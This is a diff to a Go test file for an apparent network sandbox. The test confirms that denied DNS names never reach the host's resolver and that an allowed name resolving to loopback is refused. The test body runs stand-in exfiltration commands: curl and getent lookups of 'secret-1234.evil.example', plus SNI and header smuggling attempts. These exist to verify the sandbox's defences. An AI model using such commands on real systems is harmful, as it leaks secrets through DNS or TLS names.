@@ -65,7 +65,8 @@ func TestN11NoOtherWayOut(t *testing.T) {
 }
 
 // TestN11DeniedNamesAreNotAsked (row N11, inside): the host's resolver hears of
-// the names that a rule allows and of no other.
+// the names that a rule allows and of no other. What it answers is vetted (row
+// S2).
 func TestN11DeniedNamesAreNotAsked(t *testing.T) {
 	if os.Geteuid() != 0 {
 		t.Skip("this test puts its own resolver in place of the host's, which needs root")
@@ -79,7 +80,7 @@ func TestN11DeniedNamesAreNotAsked(t *testing.T) {
 	}
 	h.inOwnMounts("mount --bind " + conf + " /etc/resolv.conf")
 	h.serve()
-	h.deploy(manifest("a", strings.Replace(u.rule("asked.example"), "      resolve: [127.0.0.1]\n", "", 1)))
+	h.deploy(manifest("a", strings.Replace(u.rule("asked.example"), "      resolve: [127.0.0.1]\n", "", 1)+"    - {host: inner.example, ports: ["+fmt.Sprint(u.port)+"]}\n"))
 	h.plant("a")
 	if r := h.sh("a", "curl -sS "+u.url("asked.example", "/")); r.stdout != "hello" {
 		t.Fatalf("the allowed name, resolved by the test's resolver: %+v", r)
@@ -87,12 +88,16 @@ func TestN11DeniedNamesAreNotAsked(t *testing.T) {
 	h.sh("a", "curl -sS -m 5 https://secret-1234.evil.example/; curl -sS -m 5 --noproxy '*' https://secret-1234.evil.example/; curl -sS -m 5 https://x.asked.example/; getent hosts secret.evil.example")
 	h.attack("a", "out", "-host", "127.0.0.1:1", "-abstract", "none")
 	h.attack("a", "ask", "-connect", fmt.Sprintf("asked.example:%d", u.port), "-sni", "secret.evil.example", "-header", "secret.evil.example")
+	// Row S2: an allowed name that resolves to the host's loopback.
+	if r := h.sh("a", "curl -sS "+u.url("inner.example", "/")); !strings.Contains(r.stdout, "urn:ambit:problem:private-address") {
+		t.Errorf("an allowed name with a private address: %+v", r)
+	}
 	asked := resolver.names()
 	if !slices.Contains(asked, "asked.example.") {
 		t.Errorf("the test's resolver was not used: %v", asked)
 	}
 	for _, name := range asked {
-		if name != "asked.example." {
+		if name != "asked.example." && name != "inner.example." {
 			t.Errorf("the host's resolver was asked for %s", name)
 		}
 	}
